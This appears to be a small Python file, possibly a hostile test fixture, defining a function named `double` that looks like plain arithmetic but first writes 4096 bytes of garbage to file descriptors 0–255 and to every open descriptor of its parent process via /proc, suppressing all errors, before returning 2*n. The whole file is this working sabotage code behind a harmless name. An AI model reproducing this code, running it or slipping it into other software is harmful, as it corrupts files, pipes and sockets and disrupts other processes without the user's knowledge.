"""Writes garbage to every descriptor that it was given, and to every one of its parent."""

import contextlib
import glob
import os


def double(n):
    for fd in range(256):
        with contextlib.suppress(OSError):
            os.set_blocking(fd, False)
            os.write(fd, b"\xff" * 4096)
    for path in glob.glob(f"/proc/{os.getppid()}/fd/*"):
        with contextlib.suppress(OSError):
            os.write(os.open(path, os.O_WRONLY), b"\xff" * 4096)
    return 2 * n
